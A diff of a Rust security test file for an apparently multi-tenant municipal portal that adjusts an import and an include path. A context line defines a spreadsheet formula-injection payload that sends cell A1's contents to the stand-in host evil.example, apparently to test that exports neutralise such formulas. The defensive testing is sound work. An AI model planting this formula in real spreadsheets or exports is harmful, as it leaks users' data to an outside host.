@@ -4,7 +4,7 @@
 //! (batch pages scoped by department, FAQ answer links, development key files, `no-store` on personal pages,
 //! no confirmation of another tenant's login id).
 
-mod common;
+use crate::common;
 
 use common::{TestApp, csrf_of};
 use madoguchi_kernel::staff::{Role, insert_staff};
@@ -13,7 +13,7 @@ use serde_json::{Value, json};
 
 const PREF: &str = "390003";
 const CITY: &str = "392014";
-const ROAD_DAMAGE: &str = include_str!("../demo/forms/road-damage.json");
+const ROAD_DAMAGE: &str = include_str!("../../demo/forms/road-damage.json");
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
 
 fn enc(s: &str) -> String {
